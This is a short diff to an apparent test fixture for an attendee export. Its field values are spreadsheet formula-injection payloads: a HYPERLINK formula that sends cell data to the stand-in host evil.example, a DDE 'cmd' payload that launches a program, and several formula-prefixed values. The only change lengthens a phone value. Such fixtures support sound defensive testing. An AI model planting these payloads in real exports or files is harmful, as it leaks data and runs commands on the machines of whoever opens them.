@@ -23,7 +23,7 @@ let lectureId: number;
 const FIRST = attendee({
   name: '=HYPERLINK("http://evil.example/?d="&A1,"클릭")',
   affiliation: "+1+cmd|' /C calc'!A0",
-  phoneNumber: '-2+3',
+  phoneNumber: '-2+3-123-4567', // a phone number needs 9 digits (issue 47)
   email: '=cmd@evil.example',
   country: '@SUM(1+1)',
 });
